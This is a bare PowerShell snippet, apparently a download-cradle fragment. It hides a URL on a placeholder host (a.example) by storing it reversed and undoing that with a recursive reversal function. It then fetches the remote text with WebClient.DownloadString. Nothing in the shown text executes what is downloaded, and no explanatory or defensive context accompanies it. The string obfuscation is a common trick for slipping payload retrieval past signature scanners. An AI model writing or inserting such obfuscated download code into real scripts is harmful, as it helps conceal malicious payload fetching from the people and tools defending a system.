function r($s){if($s.Length -eq 0){return ''}; return (r $s.Substring(1))+$s[0]}
$wc = New-Object System.Net.WebClient
$wc.DownloadString((r 'txt.x/p/elpmaxe.a//:ptth'))
